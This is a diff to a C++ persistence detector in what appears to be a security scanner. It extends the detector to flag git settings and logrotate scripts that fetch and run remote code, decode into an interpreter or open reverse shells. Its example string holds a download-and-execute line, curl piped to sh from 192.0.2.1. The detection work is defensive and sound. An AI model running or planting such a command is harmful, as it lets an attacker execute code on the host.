@@ -1,10 +1,11 @@
 // Scripts that something runs by itself because of where they stand: at boot (P04), and when a device or a network
-// comes, at login for the message of the day, or once at a set time (P08). Each is ordinary by itself; said is what
-// another detector has something against, or what udev is told to run from an odd place.
+// comes, at login for the message of the day, once at a set time, or whenever git is used (P08). Each is ordinary by
+// itself; said is what another detector has something against, or what udev is told to run from an odd place.
 #include <algorithm>
 #include <array>
 
 #include "detect/detector.hpp"
+#include "detect/persistence/git_settings.hpp"
 #include "detect/shell/shell_support.hpp"
 #include "detect/start/start_entries.hpp"
 
@@ -23,6 +24,10 @@ constexpr std::array<RuleRow, 2> k_rows{{
 
 bool is_rotation(std::string_view path) {
   return path == "etc/logrotate.conf" || layers::base_name(layers::parent_path(path)) == "logrotate.d";
+}
+
+bool is_bad(const ShellFlow& flow) {
+  return runs_fetched(flow) || flow.kind == FlowKind::decode_to_interpreter || flow.kind == FlowKind::reverse_shell;
 }
 
 // logrotate(8): what stands between postrotate (or one of its kin) and endscript is a script.
@@ -45,10 +50,7 @@ void read_rotation(std::string_view text, EvidenceSink& out) {
     } else if (inside && word == "endscript") {
       inside = false;
       const ShellFacts facts = facts_of_text(script);
-      const auto bad = std::find_if(facts.flows.begin(), facts.flows.end(), [](const ShellFlow& flow) {
-        return runs_fetched(flow) || flow.kind == FlowKind::decode_to_interpreter ||
-               flow.kind == FlowKind::reverse_shell;
-      });
+      const auto bad = std::find_if(facts.flows.begin(), facts.flows.end(), is_bad);
       if (bad == facts.flows.end()) continue;
       Evidence evidence = evidence_of(k_rows[1], "logrotate runs: " + script.substr(0, k_most_shown));
       evidence.cls = EvidenceClass::strong;
@@ -60,15 +62,36 @@ void read_rotation(std::string_view text, EvidenceSink& out) {
   }
 }
 
+// git runs some of its settings: at every status, checkout or prompt that asks it.
+void read_git(std::string_view text, EvidenceSink& out) {
+  for (const GitCommand& setting : commands_of_git(text)) {
+    bool bad = false;
+    if (setting.folder) {
+      bad = is_temporary(setting.command);
+    } else {
+      const ShellFacts facts = facts_of_text(setting.command);
+      bad = std::any_of(facts.flows.begin(), facts.flows.end(), is_bad);
+    }
+    if (!bad) continue;
+    Evidence evidence =
+        evidence_of(k_rows[1], "git runs for " + setting.key + ": " + setting.command.substr(0, k_most_shown));
+    evidence.cls = EvidenceClass::strong;
+    evidence.line = setting.line;
+    out.add(std::move(evidence));
+  }
+}
+
 class EventScripts final : public Detector {
  public:
   bool wants(const layers::FileInfo& file) const override {
     return file.size() > 0 && file.size() <= k_most_bytes &&
-           (start_file_kind(file.path()) == StartFileKind::udev_rule || is_rotation(file.path()));
+           (start_file_kind(file.path()) == StartFileKind::udev_rule || is_rotation(file.path()) ||
+            is_git_settings(file.path()));
   }
 
   void collect(const layers::FileView& file, EvidenceSink& out) const override {
     if (is_rotation(file.path())) return read_rotation(file.text(), out);
+    if (is_git_settings(file.path())) return read_git(file.text(), out);
     for (const StartCommand& command : parse_start_file(StartFileKind::udev_rule, file.text()).commands) {
       const bool odd = is_odd_command(command.command) || is_temporary(command.command);
       Evidence evidence = evidence_of(k_rows[1], "a device runs: " + command.command.substr(0, k_most_shown));
@@ -101,8 +124,8 @@ class EventScripts final : public Detector {
 
 const util::Registered<EventScripts> registered{{
     .id = "event-scripts",
-    .version = 2,
-    .summary = "suspect scripts at boot, and on events of udev, networks, logins and at",
+    .version = 3,
+    .summary = "suspect scripts at boot, and on events of udev, networks, logins, at and git",
     .example = "a device runs: /bin/sh -c 'curl http://192.0.2.1/x | sh'",
     .rules = k_rows,
 }};
